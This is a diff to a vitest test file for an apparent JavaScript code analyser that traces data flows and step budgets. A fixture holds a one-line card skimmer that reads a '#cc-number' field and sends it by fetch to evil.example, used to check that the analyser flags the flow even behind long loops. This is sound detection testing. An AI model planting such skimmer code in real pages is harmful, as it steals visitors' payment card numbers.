@@ -1,5 +1,6 @@
 // Guards that what costs many steps does not hide what stands after it.
 import { describe, expect, it } from 'vitest'
+import { lookAtCode } from '#program/index.ts'
 import { flowsIn, look } from './look.ts'
 
 const thief = `document.querySelector('#cc-number').addEventListener('change', (e) => fetch('https://evil.example/?d=' + e.target.value));`
@@ -21,6 +22,32 @@ describe('what stands after is found, and the run says that there may be more', 
     expect(flowsIn(run)).toContain('card > fetch evil.example')
     expect(run.ended).toBe(false)
   })
+})
+
+describe('what nobody called is read to its end', () => {
+  it.each([
+    [
+      'where a loop waits for what never comes',
+      'var t = { type: 1 }; function all() { var l = []; while (t.type !== 2) l.push(next(t)); return l }',
+    ],
+    [
+      'after another that waits',
+      'var t = 1; function a() { while (t) go() } function b(s) { for (var i = 0; i < 900; i++) s.push(i * 2) }',
+    ],
+  ])('%s', (_, text) => {
+    const run = look(text, { sweepStepsMax: 2_000_000, sweptCallStepsMax: 200_000 })
+    expect(run.ended).toBe(true)
+  })
+
+  it('with what stands in a loop under a condition that only many rounds would meet', () => {
+    const run = look(`function f() { var x = 0; for (;;) { x++; if (x > 1e7) { ${thief} } } }`)
+    expect(flowsIn(run)).toContain('card > fetch evil.example')
+  })
+})
+
+it('takes more steps where more effort is asked for', () => {
+  const text = 'for (let j = 0; j < 1500; j++) for (let i = 0; i < 1000; i++);'
+  expect([1, 4].map((effort) => lookAtCode(text, effort).ended)).toEqual([false, true])
 })
 
 it('a loop of many rounds that ends is run to its end', () => {
